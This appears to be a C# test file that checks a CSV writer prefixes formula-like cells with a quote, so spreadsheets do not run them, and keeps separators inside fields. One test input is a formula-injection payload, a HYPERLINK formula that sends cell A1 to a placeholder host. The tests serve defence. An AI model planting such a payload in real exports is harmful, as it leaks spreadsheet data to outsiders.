using Pipeline.Cli;
using Pipeline.Core.Results;

namespace Pipeline.Integration.Tests;

/// <summary>records.csv and uploads.csv: RFC 4180 fields that no spreadsheet opens as a formula (issue 10, item 7).</summary>
public sealed class CsvWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"klik\")")]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_cell_that_starts_like_a_formula_is_written_with_a_quote_in_front(string typed)
    {
        var rows = WriteAndRead(["kualuh-hulu/aek-kanopan/daftar.xlsx", typed, "Budi"]);

        Assert.Equal(["kualuh-hulu/aek-kanopan/daftar.xlsx", "'" + typed, "Budi"], rows.Single());
    }

    [Fact]
    public void Commas_quotes_line_breaks_and_semicolons_stay_inside_their_field()
    {
        string[] values = ["Siregar, Budi", "Jl. \"Pasar\" 5", "baris 1\nbaris 2", "NIK_MISSING;NAME_MISSING", "", null!];

        var rows = WriteAndRead(values);

        Assert.Equal(["Siregar, Budi", "Jl. \"Pasar\" 5", "baris 1\nbaris 2", "NIK_MISSING;NAME_MISSING", "", ""], rows.Single());
    }

    [Fact]
    public void Opened_with_indonesian_regional_settings_no_piece_of_a_line_starts_like_a_formula()
    {
        var path = Path.GetTempFileName();
        try
        {
            using (var csv = new CsvWriter(path))
            {
                csv.WriteRow("Dusun 3;=1+1", "a;@SUM(A1)", "=HYPERLINK(\"x\")", "-5");
            }

            // Excel in Indonesian settings splits every line on ';' and reads each piece as a cell.
            var line = File.ReadAllText(path).TrimStart('\uFEFF').TrimEnd('\r', '\n');
            Assert.DoesNotContain(line.Split(';'), piece => SafeCellText.StartsLikeFormula(piece.TrimStart('"')));
            Assert.DoesNotContain(line.Split(','), piece => SafeCellText.StartsLikeFormula(piece.TrimStart('"')));
        }
        finally
        {
            File.Delete(path);
        }
    }

    private static List<List<string>> WriteAndRead(string[] values)
    {
        var path = Path.GetTempFileName();
        try
        {
            using (var csv = new CsvWriter(path))
            {
                csv.WriteRow(values);
            }

            return CliTests.ReadCsv(path);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
